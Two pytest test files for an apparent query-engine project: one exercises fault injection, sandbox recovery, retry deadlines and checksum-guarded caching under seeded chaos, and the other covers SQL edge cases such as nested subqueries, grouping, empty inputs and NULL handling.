    def test_backoff_never_sleeps_past_the_deadline(self):
        """A retry whose backoff would cross the ambient deadline raises
        QueryDeadlineExceeded immediately instead of burning the budget."""
        attempts = []

        def flaky():
            attempts.append(1)
            raise RetryableError("transient", retry_after=30.0)

        ctx = QueryContext.create(user="alice", deadline_seconds=0.05)
        started = time.monotonic()
        with ctx.activate():
            with pytest.raises(QueryDeadlineExceeded) as excinfo:
                retry_with_backoff(flaky, retries=5, base_delay=10.0)
        assert time.monotonic() - started < 2.0
        assert len(attempts) == 1  # failed once, then refused to wait
        assert isinstance(excinfo.value.__cause__, RetryableError)


@engine_udf("int")
def plus(a, b):
    return a + b


ALICE_PLUS = plus.with_owner("alice")


class TestDispatcherSelfHealing:
    def test_acquire_skips_dead_spares_and_refills(self):
        manager = ClusterManager(backend="inprocess")
        dispatcher = Dispatcher(manager, min_pool_size=2)
        assert dispatcher.spare_pool_size() == 2
        for _, spare in dispatcher._spares:
            spare.close()  # both spares die while parked
        sandbox = dispatcher.acquire("s", "alice")
        assert not sandbox.closed
        assert sandbox.invoke(ALICE_PLUS, [[1], [2]]) == [3]
        assert dispatcher.stats.spares_evicted == 2
        # The claim path noticed the deaths and respawned the spare pool.
        assert dispatcher.spare_pool_size() == 2
        manager.shutdown()

    def test_acquire_evicts_dead_pooled_sandbox(self):
        manager = ClusterManager(backend="inprocess")
        dispatcher = Dispatcher(manager)
        first = dispatcher.acquire("s", "alice")
        first.close()  # dies between queries
        second = dispatcher.acquire("s", "alice")
        assert second is not first and not second.closed
        assert dispatcher.stats.dead_evicted == 1
        manager.shutdown()

    def test_probe_liveness_sweeps_pool_and_spares(self):
        manager = ClusterManager(backend="inprocess")
        dispatcher = Dispatcher(manager, min_pool_size=1)
        pooled = dispatcher.acquire("s", "alice")  # claims the one spare
        dispatcher.ensure_min_pool()  # park a fresh spare again
        pooled.close()
        dispatcher._spares[0][1].close()
        report = dispatcher.probe_liveness()
        assert report == {
            "dead_pooled_evicted": 1,
            "dead_spares_evicted": 1,
            "spares_respawned": 1,
        }
        assert dispatcher.pool_size() == 0
        assert dispatcher.spare_pool_size() == 1
        assert dispatcher.stats.liveness_probes == 1
        manager.shutdown()

    def test_housekeeping_runs_liveness_probe(
        self, workspace, standard_cluster, admin_client
    ):
        from repro.connect.client import col, udf

        @udf("float")
        def ident(x):
            return x

        alice = standard_cluster.connect("alice")
        alice.table("main.sales.orders").select(ident(col("amount"))).collect()
        dispatcher = standard_cluster.backend.dispatcher
        for sandbox in dispatcher.sandboxes_of(alice.session_id):
            sandbox.close()
        report = standard_cluster.service.housekeeping()["sandbox_liveness"]
        assert report["dead_pooled_evicted"] == 1
        # The next query heals transparently on a fresh sandbox.
        rows = alice.table("main.sales.orders").select(ident(col("amount"))).collect()
        assert len(rows) == 4


class TestAtMostOnceUdfReplay:
    def _runtime(self, faults=None):
        manager = ClusterManager(backend="inprocess", faults=faults)
        dispatcher = Dispatcher(manager)
        return manager, dispatcher, SandboxedUDFRuntime(dispatcher, "s")

    def test_pre_delivery_death_is_replayed_exactly_once(self):
        faults = FaultInjector()
        manager, dispatcher, runtime = self._runtime(faults)
        executed = []

        @engine_udf("int")
        def counted(x):
            executed.append(x)
            return x * 2

        udf_obj = counted.with_owner("alice")
        faults.arm("sandbox.invoke", FaultSpec(one_shot=True))
        assert runtime.run_udf(udf_obj, [[1, 2, 3]]) == [2, 4, 6]
        assert executed == [1, 2, 3]  # each row ran exactly once
        assert dispatcher.stats.udf_retries == 1
        assert dispatcher.stats.dead_evicted == 1
        manager.shutdown()

    def test_post_delivery_death_is_never_replayed(self):
        manager, dispatcher, runtime = self._runtime()
        sandbox = dispatcher.acquire("s", "alice")
        invokes = []

        def dying_invoke(udf_obj, arg_columns):
            invokes.append(1)
            raise SandboxDied("worker died mid-request", delivered=True)

        sandbox.invoke = dying_invoke
        with pytest.raises(SandboxDied) as excinfo:
            runtime.run_udf(ALICE_PLUS, [[1], [2]])
        assert excinfo.value.delivered is True
        assert len(invokes) == 1  # no second attempt
        assert dispatcher.stats.udf_retries == 0
        assert dispatcher.stats.dead_evicted == 1  # still evicted
        manager.shutdown()

    def test_retry_knob_disables_replay(self):
        faults = FaultInjector()
        manager, dispatcher, _ = self._runtime(faults)
        runtime = SandboxedUDFRuntime(dispatcher, "s", retry_dead_sandbox=False)
        faults.arm("sandbox.invoke", FaultSpec(one_shot=True))
        with pytest.raises(SandboxDied) as excinfo:
            runtime.run_udf(ALICE_PLUS, [[1], [2]])
        assert excinfo.value.delivered is False
        assert dispatcher.stats.udf_retries == 0
        manager.shutdown()

    def test_double_death_exhausts_the_single_retry(self):
        faults = FaultInjector()
        manager, dispatcher, runtime = self._runtime(faults)
        faults.arm("sandbox.invoke", FaultSpec(max_triggers=2))
        with pytest.raises(SandboxDied):
            runtime.run_udf(ALICE_PLUS, [[1], [2]])
        assert dispatcher.stats.udf_retries == 1  # retried once, then gave up
        manager.shutdown()


class TestStreamDropReattach:
    def test_reattach_rejoins_original_trace_without_dup_or_loss(
        self, workspace, standard_cluster, admin_client
    ):
        """Satellite: an injected mid-stream drop reattaches transparently —
        full result set, no duplicates, and the rejoined stream's span is in
        the original query's trace."""
        chaos = FaultInjector()
        chaos.arm("channel.stream", FaultSpec(one_shot=True, after_calls=1))
        alice = standard_cluster.connect("alice", faults=chaos)
        rows = alice.table("main.sales.orders").collect()
        ids = sorted(r[0] for r in rows)
        assert ids == [1, 2, 3, 4]  # no loss, no duplicates
        assert chaos.trigger_count("channel.stream") == 1
        assert alice._channel.stats.connections_dropped == 1
        trace_id = alice.last_trace_id
        spans = standard_cluster.backend.telemetry.spans(trace_id=trace_id)
        names = [s.name for s in spans]
        assert "reattach_execute" in names
        assert all(s.trace_id == trace_id for s in spans)


class TestServerlessOutageFaultPoint:
    def _efgac_workspace(self):
        ws = Workspace(clock=VirtualClock())
        ws.add_user("admin", admin=True)
        ws.add_user("dana")
        cat = ws.catalog
        cat.create_catalog("m", owner="admin")
        cat.create_schema("m.s", owner="admin")
        serverless = ws.connect_serverless("admin")
        serverless.sql("CREATE TABLE m.s.gov (id int, v float)")
        serverless.sql("INSERT INTO m.s.gov VALUES (1, 1.0), (2, 2.0)")
        serverless.sql("GRANT USE CATALOG ON m TO dana")
        serverless.sql("GRANT USE SCHEMA ON m.s TO dana")
        serverless.sql("GRANT SELECT ON m.s.gov TO dana")
        serverless.sql("ALTER TABLE m.s.gov SET ROW FILTER (id > 0)")
        cluster = ws.create_dedicated_cluster(assigned_user="dana")
        return ws, cluster

    def test_outage_is_an_armed_fault_point(self):
        ws, cluster = self._efgac_workspace()
        gateway = ws.serverless
        faults = ws.catalog.faults
        assert not faults.armed("serverless.gateway")
        gateway.set_outage(True)
        assert faults.armed("serverless.gateway")
        dana = cluster.connect("dana")
        with pytest.raises((ClusterError, CircuitOpenError)):
            dana.sql("SELECT id FROM m.s.gov").collect()
        assert faults.trigger_count("serverless.gateway") >= 1
        stats = ws.catalog.fault_stats()["faults[catalog]"]
        assert stats["serverless.gateway.triggered"] >= 1.0
        # Ending the outage disarms the point and restores service.
        gateway.set_outage(False)
        assert not faults.armed("serverless.gateway")
        ws.clock.advance(120.0)
        assert len(dana.sql("SELECT id FROM m.s.gov").collect()) == 2


class TestFaultStatsTable:
    def test_non_admin_is_denied(self, workspace, standard_cluster, admin_client):
        alice = standard_cluster.connect("alice")
        with pytest.raises(PermissionDenied):
            alice.sql("SELECT * FROM system.access.fault_stats").collect()

    def test_admin_sees_triggers_and_recoveries(
        self, workspace, standard_cluster, admin_client
    ):
        faults = workspace.catalog.faults
        alice = standard_cluster.connect("alice")
        # Aim the one-shot at the query's *last* GET — a data-file read —
        # so the recovery is the scan-task retry, not the txn-log retry
        # (see test_failure_injection for the counting-pass pattern).
        faults.arm("storage.get", FaultSpec(probability=0.0))
        alice.table("main.sales.orders").collect()
        per_query = faults.call_count("storage.get")
        faults.disarm("storage.get")
        faults.arm(
            "storage.get",
            FaultSpec(one_shot=True, after_calls=2 * per_query - 1),
        )
        rows = alice.table("main.sales.orders").collect()
        assert len(rows) == 4  # the scan retry absorbed the fault
        table = admin_client.sql(
            "SELECT scope, metric, value FROM system.access.fault_stats"
        ).collect()
        metrics = {(r[0], r[1]): r[2] for r in table}
        assert metrics[("faults[catalog]", "storage.get.triggered")] >= 1.0
        assert metrics[("faults[catalog]", "recovered.scan.task_retry")] >= 1.0
        cluster_scope = f"recovery[{standard_cluster.name}]"
        assert metrics[(cluster_scope, "scan_retries")] >= 1.0


class TestStoreFaultRecovery:
    """The persistence tier degrades to recomputes, never to wrong bytes."""

    _QUERY = "SELECT id, region, amount FROM main.sales.orders WHERE amount > 5.0"

    def _store_workspace(self, spill_dir: str):
        ws = Workspace()
        ws.add_user("admin", admin=True)
        ws.add_user("alice")
        ws.add_group("analysts", ["alice"])
        ws.catalog.create_catalog("main", owner="admin")
        ws.catalog.create_schema("main.sales", owner="admin")
        for point in ("store.get", "store.put", "store.evict"):
            ws.catalog.faults.disarm(point)
        cluster = ws.create_standard_cluster(
            store_backend="disk", store_dir=spill_dir, result_cache_enabled=True
        )
        admin = cluster.connect("admin")
        admin.sql(
            "CREATE TABLE main.sales.orders (id int, region string, amount float)"
        )
        admin.sql(
            "INSERT INTO main.sales.orders VALUES (1,'US',10.0),(2,'EU',20.0),"
            "(3,'US',30.0),(4,'APAC',40.0)"
        )
        admin.sql("GRANT USE CATALOG ON main TO analysts")
        admin.sql("GRANT USE SCHEMA ON main.sales TO analysts")
        admin.sql("GRANT SELECT ON main.sales.orders TO analysts")
        return ws, cluster

    def test_injected_read_corruption_is_rejected_never_served(self, tmp_path):
        """A chaos-corrupted store read is checksum-rejected; the read heals
        from the tier below (or recomputes) — the query answer is unchanged."""
        ws, cluster = self._store_workspace(str(tmp_path / "spill"))
        alice = cluster.connect("alice")
        baseline = alice.sql(self._QUERY).collect()
        store = cluster.backend.artifact_store.store
        ws.catalog.faults.arm(
            "store.get", FaultSpec(kind="corrupt", one_shot=True)
        )
        assert alice.sql(self._QUERY).collect() == baseline
        assert store.stats.corruption_rejected >= 1
        ws.shutdown()

    def test_torn_disk_files_force_a_clean_recompute(self, tmp_path):
        """Every spill file mangled on disk + memory tier wiped: the next
        replay checksum-rejects the torn copies, recomputes, and re-warms."""
        spill = tmp_path / "spill"
        ws, cluster = self._store_workspace(str(spill))
        alice = cluster.connect("alice")
        baseline = alice.sql(self._QUERY).collect()
        cache = cluster.backend.result_cache
        stored_before = cache.stats.stored
        store = cluster.backend.artifact_store.store
        store.tiers[0].clear()  # drop the fast copies
        for path in spill.glob("*.lgs"):
            blob = bytearray(path.read_bytes())
            blob[-1] ^= 0xFF  # tear the payload region
            path.write_bytes(bytes(blob))
        assert alice.sql(self._QUERY).collect() == baseline
        assert store.stats.corruption_rejected >= 1
        assert cache.stats.stored == stored_before + 1  # recomputed, re-warmed
        assert alice.sql(self._QUERY).collect() == baseline  # warm again
        assert cache.stats.hits >= 1
        ws.shutdown()

    def test_eviction_mid_workload_recomputes_and_rewarms(self, tmp_path):
        ws, cluster = self._store_workspace(str(tmp_path / "spill"))
        alice = cluster.connect("alice")
        baseline = alice.sql(self._QUERY).collect()
        store = cluster.backend.artifact_store.store
        cache = cluster.backend.result_cache
        stored_before = cache.stats.stored
        for key in store.keys():
            if key.startswith("result/"):
                store.evict(key)
        assert alice.sql(self._QUERY).collect() == baseline
        assert cache.stats.stored == stored_before + 1
        ws.shutdown()

    def test_seeded_store_chaos_is_observationally_equivalent(self, tmp_path):
        """``store.get``/``store.put`` raise-faults are absorbed by design:
        failed reads are misses, failed writes are skipped — a seeded sweep
        returns exactly the fault-free answers."""
        baseline = None
        drops = 0
        for seed in range(6):
            ws, cluster = self._store_workspace(str(tmp_path / f"s{seed}"))
            if seed > 0:
                ws.catalog.faults.seed = seed
                for point in ("store.get", "store.put"):
                    ws.catalog.faults.arm(
                        point,
                        FaultSpec(probability=0.4, only_in_query=True),
                    )
            alice = cluster.connect("alice")
            rows = [sorted(alice.sql(self._QUERY).collect()) for _ in range(4)]
            drops += cluster.backend.artifact_store.store.stats.fault_drops
            if baseline is None:
                baseline = rows
            else:
                assert rows == baseline, f"seed {seed} diverged"
            ws.shutdown()
        assert drops > 0  # the sweep genuinely dropped store operations


class TestChaosEquivalenceProperty:
    """Seeded chaos runs are observationally equivalent to fault-free runs."""

    GRANTS = (
        "GRANT USE CATALOG ON m TO alice",
        "GRANT USE SCHEMA ON m.s TO alice",
        "GRANT SELECT ON m.s.t TO alice",
    )

    def _run_query(self, seed: int, rate: float) -> list:
        ws = Workspace()
        ws.add_user("admin", admin=True)
        ws.add_user("alice")
        cat = ws.catalog
        cat.create_catalog("m", owner="admin")
        cat.create_schema("m.s", owner="admin")
        cluster = ws.create_standard_cluster(
            name="chaos", num_executors=2, scan_retries=4
        )
        admin = cluster.connect("admin")
        admin.sql("CREATE TABLE m.s.t (id int, v float)")
        for i in range(3):
            admin.sql(
                f"INSERT INTO m.s.t VALUES ({2 * i}, {float(i)}),"
                f" ({2 * i + 1}, {i + 0.5})"
            )
        for grant in self.GRANTS:
            admin.sql(grant)
        if rate > 0:
            cat.faults.seed = seed
            cat.faults.arm(
                "storage.get",
                FaultSpec(kind="raise", probability=rate, only_in_query=True),
            )
        alice = cluster.connect("alice")
        rows = alice.sql("SELECT id, v FROM m.s.t WHERE v >= 1.0").collect()
        if rate > 0:
            cat.faults.disarm("storage.get")
        return sorted(rows)

    def test_seed_sweep_scan_results_identical(self):
        baseline = self._run_query(seed=0, rate=0.0)
        assert len(baseline) == 4
        for seed in range(20):
            ws_rows = self._run_query(seed=seed, rate=0.15)
            assert ws_rows == baseline, f"seed {seed} diverged"
        # The sweep only means something if faults actually fired; 20 seeds
        # at 15% across ~9 governed GETs each makes that a certainty.

    def test_seed_sweep_udf_executes_at_most_once(self):
        """Under a seeded sandbox-death schedule, user code runs exactly
        once per *delivered* invoke — never twice, never partially."""
        deaths_seen = 0
        for seed in range(25):
            faults = FaultInjector(seed=seed)
            manager = ClusterManager(backend="inprocess", faults=faults)
            dispatcher = Dispatcher(manager)
            runtime = SandboxedUDFRuntime(dispatcher, "s")
            executed = []

            @engine_udf("int")
            def counted(x):
                executed.append(x)
                return x + 1

            udf_obj = counted.with_owner("alice")
            faults.arm("sandbox.invoke", FaultSpec(probability=0.3))
            delivered_rows = 0
            for _ in range(10):
                try:
                    out = runtime.run_udf(udf_obj, [[1, 2, 3]])
                    assert out == [2, 3, 4]
                    delivered_rows += 3
                except SandboxDied as exc:
                    # Both the attempt and its single replay died; the
                    # failure must still be pre-delivery (no user code ran).
                    assert exc.delivered is False
            deaths_seen += faults.trigger_count("sandbox.invoke")
            assert len(executed) == delivered_rows, f"seed {seed}"
            manager.shutdown()
        assert deaths_seen > 0  # the sweep genuinely injected faults
