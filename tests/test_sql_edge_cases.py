"""Edge-case SQL coverage: nesting, grouping expressions, empty inputs,
duplicate names, NULL-heavy data."""

import pytest

from repro.engine.analyzer import DictResolver
from repro.engine.executor import QueryEngine
from repro.engine.logical import LocalRelation
from repro.engine.types import FLOAT, INT, STRING, Field, Schema
from repro.errors import AnalysisError
from repro.sql.parser import parse_statement
from repro.sql.to_plan import PlanBuilder

SCHEMA = Schema(
    (Field("id", INT), Field("grp", STRING), Field("v", FLOAT))
)
DATA = LocalRelation(
    SCHEMA,
    [
        [1, 2, 3, 4, 5, 6],
        ["a", "a", "b", "b", None, None],
        [1.0, None, 3.0, 4.0, 5.0, None],
    ],
)
EMPTY = LocalRelation(SCHEMA, [[], [], []])


@pytest.fixture
def engine():
    return QueryEngine(DictResolver({"t": DATA, "e": EMPTY}))


def run(engine, sql):
    return engine.execute(PlanBuilder().build(parse_statement(sql))).rows()


class TestNesting:
    def test_three_level_subqueries(self, engine):
        rows = run(
            engine,
            "SELECT q.grp FROM ("
            "  SELECT p.grp, p.total FROM ("
            "    SELECT grp, sum(v) AS total FROM t GROUP BY grp"
            "  ) p WHERE p.total > 0"
            ") q ORDER BY q.grp",
        )
        # NULL group has total 5.0; 'a'=1.0; 'b'=7.0 — all > 0.
        assert len(rows) == 3

    def test_union_inside_subquery(self, engine):
        rows = run(
            engine,
            "SELECT count(*) AS n FROM ("
            "  SELECT id FROM t WHERE id < 3 UNION ALL SELECT id FROM t WHERE id > 4"
            ") u",
        )
        assert rows == [(4,)]

    def test_join_of_subqueries(self, engine):
        rows = run(
            engine,
            "SELECT a.grp, b.grp FROM "
            "(SELECT DISTINCT grp FROM t WHERE grp IS NOT NULL) a "
            "JOIN (SELECT DISTINCT grp FROM t WHERE grp IS NOT NULL) b "
            "ON a.grp = b.grp",
        )
        assert sorted(rows) == [("a", "a"), ("b", "b")]


class TestGrouping:
    def test_group_by_expression(self, engine):
        rows = run(
            engine,
            "SELECT id % 2 AS parity, count(*) AS n FROM t GROUP BY id % 2 "
            "ORDER BY parity",
        )
        assert rows == [(0, 3), (1, 3)]

    def test_null_group_key_is_a_group(self, engine):
        rows = run(engine, "SELECT grp, count(*) AS n FROM t GROUP BY grp")
        groups = {r[0]: r[1] for r in rows}
        assert groups == {"a": 2, "b": 2, None: 2}

    def test_aggregate_of_expression(self, engine):
        rows = run(engine, "SELECT sum(v * 2) AS s FROM t")
        assert rows == [(26.0,)]

    def test_multiple_group_keys(self, engine):
        rows = run(
            engine,
            "SELECT grp, id % 2 AS parity, count(*) AS n FROM t "
            "GROUP BY grp, id % 2",
        )
        assert len(rows) == 6  # every (grp, parity) combination present

    def test_having_on_group_key(self, engine):
        rows = run(
            engine,
            "SELECT grp, count(*) AS n FROM t GROUP BY grp HAVING grp IS NOT NULL",
        )
        assert len(rows) == 2


class TestEmptyInputs:
    def test_scan_empty(self, engine):
        assert run(engine, "SELECT * FROM e") == []

    def test_aggregate_empty_global(self, engine):
        assert run(engine, "SELECT count(*) AS n, sum(v) AS s FROM e") == [(0, None)]

    def test_aggregate_empty_grouped(self, engine):
        assert run(engine, "SELECT grp, count(*) AS n FROM e GROUP BY grp") == []

    def test_join_with_empty(self, engine):
        rows = run(
            engine,
            "SELECT t.id FROM t JOIN e ON t.id = e.id",
        )
        assert rows == []

    def test_left_join_with_empty_right(self, engine):
        rows = run(engine, "SELECT t.id, e.id FROM t LEFT JOIN e ON t.id = e.id")
        assert len(rows) == 6
        assert all(r[1] is None for r in rows)

    def test_union_with_empty(self, engine):
        rows = run(engine, "SELECT id FROM t UNION ALL SELECT id FROM e")
        assert len(rows) == 6


class TestDuplicateNames:
    def test_self_join_requires_aliases(self, engine):
        with pytest.raises(AnalysisError, match="ambiguous"):
            run(engine, "SELECT id FROM t a JOIN t b ON a.id = b.id")

    def test_duplicate_output_names_allowed(self, engine):
        rows = run(engine, "SELECT id AS x, v AS x FROM t LIMIT 1")
        assert rows == [(1, 1.0)]


class TestNullSemantics:
    def test_where_null_comparison_excludes(self, engine):
        # v = NULL is never true.
        assert run(engine, "SELECT id FROM t WHERE v = NULL") == []

    def test_coalesce_in_grouping(self, engine):
        rows = run(
            engine,
            "SELECT coalesce(grp, 'unknown') AS g, count(*) AS n "
            "FROM t GROUP BY coalesce(grp, 'unknown') ORDER BY g",
        )
        assert rows == [("a", 2), ("b", 2), ("unknown", 2)]

    def test_sum_all_null_group(self, engine):
        rows = run(
            engine,
            "SELECT grp, sum(v) AS s FROM t WHERE id = 6 GROUP BY grp",
        )
        assert rows == [(None, None)]

    def test_order_by_with_nulls_last(self, engine):
        rows = run(engine, "SELECT v FROM t ORDER BY v ASC NULLS LAST")
        values = [r[0] for r in rows]
        assert values[-2:] == [None, None]
        assert values[:4] == [1.0, 3.0, 4.0, 5.0]


class TestJoinPathEquivalence:
    """The hash fast path and the nested-loop path must agree."""

    def test_equi_join_same_as_loop_join(self, engine):
        hash_rows = run(
            engine,
            "SELECT a.id, b.id FROM t a JOIN t b ON a.grp = b.grp",
        )
        # Force the nested-loop path with a not-quite-equi condition that is
        # semantically identical (grp = grp AND TRUE-like inequality trick).
        loop_rows = run(
            engine,
            "SELECT a.id, b.id FROM t a JOIN t b "
            "ON a.grp = b.grp AND a.id + b.id > -999",
        )
        assert sorted(hash_rows) == sorted(loop_rows)

    def test_semi_join_equals_in_filter(self, engine):
        semi = run(
            engine,
            "SELECT a.id FROM t a SEMI JOIN t b ON a.grp = b.grp AND b.v > 3.0",
        )
        manual = run(
            engine,
            "SELECT DISTINCT a.id FROM t a JOIN t b "
            "ON a.grp = b.grp AND b.v > 3.0",
        )
        assert sorted(semi) == sorted(manual)
